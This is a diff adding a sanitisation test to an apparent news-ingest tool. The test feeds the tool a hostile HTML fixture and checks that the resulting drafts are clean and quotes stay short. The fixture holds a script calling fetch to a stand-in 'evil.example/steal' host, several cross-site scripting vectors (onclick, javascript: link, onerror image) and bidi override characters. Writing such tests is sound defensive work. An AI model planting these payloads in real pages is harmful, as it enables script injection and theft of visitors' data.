@@ -138,3 +138,33 @@ def test_the_repository_content_is_never_written():
     # Every test here works on a copy; this guards against a test that forgets to.
     assert not list((ROOT / "content" / "sources").glob("meridian-news-*.yaml"))
     assert not list((ROOT / "content" / "events").rglob("*bryansk*"))
+
+
+HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
+<title>Live: "quotes", colons: and # hashes — 🚀 &lt;b&gt;</title>
+<meta property="article:published_time" content="2024-11-21T07:00:00+00:00">
+<script>fetch('https://evil.example/steal')</script></head><body><main><article>
+<h1>Live: "quotes", colons: and # hashes</h1>
+<article class="post" id="p1"><time datetime="2024-11-21T08:00:00Z">08:00</time>
+<h2>Drones over Kyiv: &lt;script&gt;alert(1)&lt;/script&gt;</h2>
+<p onclick="alert(2)">Air defence units shot down drones over Kyiv overnight, the mayor said; see
+[x](javascript:alert(3)) and &lt;img src=x onerror=alert(4)&gt; \u202eand this\u202c.</p>
+<p>""" + "A very long sentence about the attack that goes on and on, " * 8 + """said officials.</p></article>
+<article class="post" id="p2"><time datetime="not a date">later</time><time datetime="2024-11-21T09:00:00Z">09:00</time>
+<h2>- a heading: that starts like a list</h2><p># Kyiv's mayor said yesterday that power was back.</p></article>
+</article></main></body></html>"""
+
+
+def test_hostile_text_in_a_page_gives_drafts_that_check_without_error(tmp_path):
+    project = record_project(tmp_path)
+    page = tmp_path / "hostile.html"
+    page.write_text(HOSTILE_PAGE, encoding="utf-8")
+    result = briefing(project, "ingest", str(page), "--format", "json")
+    assert result.returncode == 0, result.stderr
+    report = json.loads(result.stdout)
+    assert len(report["events"]) == 2
+    warnings = check_is_clean(project)  # errors would fail here; what cleaning removes is only warned about
+    assert all(p in line for line in warnings for p in [": warning: "])
+    text = "".join((project / e["file"]).read_text(encoding="utf-8") for e in report["events"])
+    assert "evil.example" not in text and "onclick" not in text
+    assert all(len(quote) <= 300 for e in report["events"] for quote in e["quotes"])
